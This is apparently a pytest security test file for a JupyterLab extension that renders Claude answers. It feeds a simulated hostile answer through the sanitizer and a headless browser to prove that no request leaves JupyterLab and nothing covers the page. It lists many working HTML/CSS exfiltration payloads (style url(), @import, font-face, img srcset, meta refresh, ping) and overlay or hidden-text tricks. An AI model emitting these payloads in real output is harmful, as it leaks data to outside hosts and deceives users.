"""Nothing in an answer loads or covers anything: a hostile answer makes the browser fetch no URL and lays
nothing over the page.

nh3 checks style property names, not their values, so `style="background:url(https://host/leak?k=…)"` once
survived sanitizing and Chromium fetched it; `margin:-2000px; font-size:900px` could cover the page. Here a
hostile "Claude" answers with every CSS exfiltration and overlay vector we know of, all pointing at a
recording HTTP server on another port, and a real JupyterLab page in headless Chromium shows the answer live
(the stream widget), finished, saved and reloaded, and its `text/markdown` copy through JupyterLab's own
Markdown renderer. Every request the page makes is recorded: none may leave JupyterLab's origin, and the
recording server must see zero hits.
"""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import nbformat
import pytest

from claude_magic.testing import LocalServer, Reply, text, thinking
from claude_magic.views.render import render_markdown
from claude_magic.views.static import static_bundle
from claude_magic.views.transcript import Transcript

from ..browser.conftest import ARTIFACTS, Lab, lab, page  # noqa: F401 - the browser fixtures
from ..browser.test_jupyterlab import CELL, dismiss_dialogs, wait_for
from ..views.helpers import text_turn

REPO = Path(__file__).resolve().parents[2]

# name -> Markdown/HTML as a model could write it; `{leak}` is the recording server's URL (+ the name).
VECTORS: dict[str, str] = {
    "style-url": '<div style="background:url({leak})">bg</div>',
    "style-url-quoted": "<div style=\"background-image:url('{leak}')\">bg2</div>",
    "style-image-set": '<span style="background-image:image-set(\'{leak}\' 1x)">set</span>',
    "style-escape": '<div style="background:u\\72l({leak})">esc</div>',
    "style-entity": '<div style="background:&#117;rl({leak})">ent</div>',
    "style-list": '<ul style="list-style-image:url({leak})"><li>item</li></ul>',
    "style-border-image": '<div style="border:1px solid; border-image:url({leak}) 30">bi</div>',
    "style-cursor": '<span style="cursor:url({leak}),auto">cur</span>',
    "style-var": '<div style="--x:url({leak})"><span style="background:var(--x)">var</span></div>',
    "style-expression": '<div style="width:expression(fetch(\'{leak}\'))">expr</div>',
    "style-td": '<table><tr><td style="background:url({leak})">td</td></tr></table>',
    "style-tag": "<style>@import url({leak}); body {{ background: url({leak}-body) }}</style>",
    "font-face": "<style>@font-face {{ font-family: x; src: url({leak}) }} p {{ font-family: x }}</style>",
    "link": '<link rel="stylesheet" href="{leak}">',
    "markdown-image": "![a chart]({leak})",
    "markdown-image-ref": "![a chart][ref]\n\n[ref]: {leak}",
    "img": '<img src="{leak}">',
    "img-srcset": '<img srcset="{leak} 1x">',
    "picture": '<picture><source srcset="{leak}"><img alt="p"></picture>',
    "table-background": '<table background="{leak}"><tr><td background="{leak}-td">tb</td></tr></table>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={leak}">',
    "base": '<base href="{leak}/"><a href="relative">rel</a>',
    "svg-image": '<svg><image href="{leak}" width="10" height="10"/></svg>',
    "svg-use": '<svg><use href="{leak}#x"/></svg>',
    "object": '<object data="{leak}"></object>',
    "embed": '<embed src="{leak}">',
    "iframe": '<iframe src="{leak}"></iframe>',
    "video": '<video poster="{leak}" src="{leak}-src"><track src="{leak}-track"></video>',
    "audio": '<audio src="{leak}" autoplay></audio>',
    "input-image": '<input type="image" src="{leak}">',
    "a-ping": '<a href="https://example.invalid/" ping="{leak}">ping</a>',
    "form": '<form action="{leak}"><button>go</button></form>',
    "details-style": '<details open><summary style="background:url({leak})">s</summary>d</details>',
    "math": '<math><mi href="{leak}">x</mi></math>',
}
OVERLAYS: dict[str, str] = {
    "fixed": ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">'
              "OVERLAY-FIXED</div>"),
    "absolute": ('<div style="position:absolute;top:-300px;left:0;width:3000px;height:3000px;background:blue">'
                 "OVERLAY-ABSOLUTE</div>"),
    "negative-margin": '<div style="margin:-2000px 0 0 -2000px;font-size:900px">OVERLAY-MARGIN</div>',
    "huge-font": '<span style="font-size:900px;line-height:900px">OVERLAY-FONT</span>',
    "huge-padding": '<p style="padding:5000px;background:green">OVERLAY-PADDING</p>',
    "opacity-hide": '<span style="opacity:0">HIDDEN-TEXT</span>',
    "colour-hide": '<span style="color:white;background:white">WHITE-TEXT</span>',
    "page-class": '<code class="jp-Dialog lm-Widget">OVERLAY-CLASS</code>',     # JupyterLab's own CSS: a full-page box
}


class LeakRecorder(ThreadingHTTPServer):
    """An HTTP server on another port that records every path asked of it (a hit is a leak)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:   # noqa: N802 - the http.server protocol
        self.server.hits.append(self.path)      # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("content-type", "image/png")
        self.end_headers()

    do_POST = do_HEAD = do_GET  # noqa: N815 - the same for every method

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
        pass


@pytest.fixture
def recorder() -> Iterator[LeakRecorder]:
    server = LeakRecorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def hostile(base: str, vectors: dict[str, str]) -> str:
    return "\n\n".join(f"Vector {name}:\n\n{snippet.format(leak=f'{base}/leak/{name}')}"
                       for name, snippet in vectors.items())


def hostile_answer(base: str) -> str:
    return "Start of the answer.\n\n" + hostile(base, VECTORS) + "\n\n" + hostile(base, OVERLAYS) + "\n\nThe end."


class _Elements(HTMLParser):
    """Every start tag with its attributes, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


FETCHING_TAGS = {"img", "link", "style", "svg", "image", "use", "object", "embed", "iframe", "video", "audio",
                 "source", "picture", "input", "form", "meta", "base", "track", "math"}
FETCHING_ATTRIBUTES = {"src", "srcset", "background", "ping", "action", "poster", "data", "style", "xlink:href"}


def test_sanitized_html_keeps_no_style_value_that_loads_or_moves(recorder: LeakRecorder) -> None:
    """Every vector alone, as the answer's HTML: no loading CSS, no layout CSS, no element that fetches; a
    URL survives only as a link's address."""
    for name, snippet in {**VECTORS, **OVERLAYS}.items():
        html = render_markdown(snippet.format(leak=f"{recorder.url}/leak/{name}"))
        for tag, attributes in elements(html):
            assert tag not in FETCHING_TAGS, (name, html)
            assert not FETCHING_ATTRIBUTES & set(attributes), (name, html)
            assert tag == "a" or not any("/leak/" in (value or "") for value in attributes.values()), (name, html)
            assert re.fullmatch(r"language-[\w+#.-]+|tex2jax_ignore mathjax_ignore", attributes.get("class") or
                                "language-x"), (name, html)


def test_the_markdown_copy_holds_no_image_or_raw_html(recorder: LeakRecorder) -> None:
    """The `text/markdown` copy of a saved answer: front ends render it with their own rules (JupyterLab's
    Markdown renderer allows images), so a model's image becomes a link and its raw HTML plain text."""
    transcript = Transcript()
    for event in text_turn(hostile_answer(recorder.url), thinking=hostile(recorder.url, VECTORS)):
        transcript.apply(event)
    data, _metadata = static_bundle(transcript)
    markdown = data["text/markdown"]
    assert "![" not in markdown.replace("\\![", "")
    assert not re.search(r"<(?:[a-z][\w-]*)\s[^>]*=", markdown, re.I), markdown[:3000]
    assert data["text/plain"].count("/leak/") == markdown.count("/leak/")        # nothing lost, only made inert


MARKDOWN_COPY_CELL = """\
import sys
sys.path.insert(0, {repo!r})
from IPython.display import display
from claude_magic.views.static import static_bundle
from claude_magic.views.transcript import Transcript
from tests.views.helpers import text_turn
transcript = Transcript()
for event in text_turn({answer!r}, thinking={thought!r}):
    transcript.apply(event)
data, _ = static_bundle(transcript)
display({{"text/markdown": data["text/markdown"]}}, raw=True)
"""
# Every element inside claude-magic's output: nothing positioned out of flow, no negative margin, no huge box.
LAYOUT = """() => {
  const bad = [];
  for (const root of document.querySelectorAll('.claude-magic-output, .claude-magic-stream, .jp-RenderedMarkdown')) {
    for (const element of root.querySelectorAll('*')) {
      const style = getComputedStyle(element);
      const rect = element.getBoundingClientRect();
      if (['fixed', 'absolute', 'sticky'].includes(style.position) && !element.closest('mjx-container')) {
        bad.push(element.tagName + ' position ' + style.position);
      }
      for (const side of ['marginTop', 'marginLeft', 'marginRight', 'marginBottom']) {
        if (parseFloat(style[side]) < -10) bad.push(element.tagName + ' ' + side + ' ' + style[side]);
      }
      if (parseFloat(style.fontSize) > 60) bad.push(element.tagName + ' font-size ' + style.fontSize);
      const leaf = element.children.length === 0;
      if (rect.width > window.innerWidth * 1.5 || (leaf && rect.height > 1000)) {
        bad.push(element.tagName + ' size ' + rect.width + 'x' + rect.height);
      }
      if (parseFloat(style.opacity) < 0.3) bad.push(element.tagName + ' opacity ' + style.opacity);
    }
  }
  const top = document.elementFromPoint(600, 10);
  if (top && top.closest('.jp-OutputArea')) bad.push('the menu bar is covered');
  return bad;
}"""


def hostile_notebook(lab: Lab, recorder: LeakRecorder) -> None:  # noqa: F811 - `lab` is the fixture's name too
    document = nbformat.v4.new_notebook()
    document.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3 (ipykernel)",
                                       "language": "python"}
    document.cells = [
        nbformat.v4.new_code_cell("%load_ext claude_magic"),
        nbformat.v4.new_code_cell("%%claude --think\nSummarise the data."),
        nbformat.v4.new_code_cell(MARKDOWN_COPY_CELL.format(repo=str(REPO), answer=hostile_answer(recorder.url),
                                                            thought=hostile(recorder.url, VECTORS))),
    ]
    nbformat.write(document, lab.root / "h.ipynb")


def run_cell(tab: Any, index: int) -> None:
    tab.locator(CELL).nth(index).locator(".jp-InputArea-editor").click()
    tab.keyboard.press("Shift+Enter")


def idle(tab: Any, index: int) -> bool:
    prompt = tab.locator(CELL).nth(index).locator(".jp-InputPrompt").inner_text()
    return "[*]" not in prompt and any(character.isdigit() for character in prompt)


def test_a_hostile_answer_loads_nothing_live_saved_and_reloaded(lab: Lab, page: Any,  # noqa: F811
                                                              claude_server: LocalServer,
                                                              recorder: LeakRecorder) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    lab_origin = urlsplit(lab.url).netloc
    outside: list[str] = []

    def record(request: Any) -> None:
        parts = urlsplit(request.url)
        if parts.scheme not in ("data", "blob", "about") and parts.netloc != lab_origin:
            outside.append(request.url)

    page.on("request", record)
    # Every cell stays in the page (JupyterLab otherwise drops cells scrolled out of view), so the layout
    # check sees every element of the answer.
    settings = lab.root.parent / "config/lab/user-settings/@jupyterlab/notebook-extension/tracker.jupyterlab-settings"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text('{"windowingMode": "none"}')
    claude_server.queue(Reply(thinking(hostile(recorder.url, VECTORS)), text(hostile_answer(recorder.url)),
                              delay=0.03, chunk=20))
    hostile_notebook(lab, recorder)
    page.goto(lab.page_url("h.ipynb"))
    page.wait_for_selector(CELL)
    page.wait_for_selector(".jp-StatusBar-Widget:has-text('Idle')", timeout=120_000)
    run_cell(page, 0)
    wait_for(lambda: idle(page, 0), "%load_ext")
    run_cell(page, 1)

    cell = page.locator(CELL).nth(1)
    layout_live: list[str] = []
    shot = False
    deadline = time.monotonic() + 120
    while not idle(page, 1):
        assert time.monotonic() < deadline, "the cell did not finish"
        if cell.locator(".claude-magic-stream").count() and "OVERLAY-" in cell.inner_text():
            layout_live += page.evaluate(LAYOUT)
            if not shot:
                shot = True
                page.screenshot(path=str(ARTIFACTS / "hostile_live.png"))
        time.sleep(0.3)
    cell.locator(".claude-magic-output").wait_for(timeout=120_000)     # a loaded machine: the turn first imports the SDK
    assert "The end." in cell.locator(".claude-magic-output").inner_text()
    cell.locator("details.claude-magic-thinking > summary").first.click()        # the thinking, opened
    time.sleep(2)                                                        # any image or font would load now
    page.screenshot(path=str(ARTIFACTS / "hostile_finished.png"))
    assert recorder.hits == [], f"the live and finished output fetched {recorder.hits}"
    assert outside == [], f"requests outside JupyterLab's origin: {outside}"
    assert layout_live == [] and page.evaluate(LAYOUT) == [], (layout_live[:10], page.evaluate(LAYOUT)[:10])
    assert shot, "the live view was never seen with the whole answer"

    run_cell(page, 2)
    # (not the cell's prompt: a copy that lays something over the page can push the cell out of the DOM)
    wait_for(lambda: recorder.hits or page.locator(".jp-RenderedMarkdown").count(), "the Markdown copy")
    time.sleep(2)
    page.screenshot(path=str(ARTIFACTS / "hostile_markdown_copy.png"))
    assert recorder.hits == [], f"JupyterLab's Markdown renderer fetched {recorder.hits}"
    assert page.evaluate(LAYOUT) == []

    cell.locator(".jp-InputPrompt").click()
    page.keyboard.press("Control+s")
    wait_for(lambda: "The end." in (lab.root / "h.ipynb").read_text(), "the saved notebook")
    wait_for(lambda: page.locator(".jp-mod-dirty").count() == 0, "the save to finish")   # no "leave page?" prompt
    page.goto(lab.page_url("h.ipynb"))
    dismiss_dialogs(page)
    page.wait_for_selector(".claude-magic-output", timeout=120_000)
    dismiss_dialogs(page)
    page.locator(".claude-magic-output details.claude-magic-thinking > summary").first.click()
    time.sleep(2)
    page.screenshot(path=str(ARTIFACTS / "hostile_reloaded.png"))
    assert recorder.hits == [], f"the reloaded notebook fetched {recorder.hits}"
    assert outside == [], f"requests outside JupyterLab's origin: {outside}"
    assert page.evaluate(LAYOUT) == []
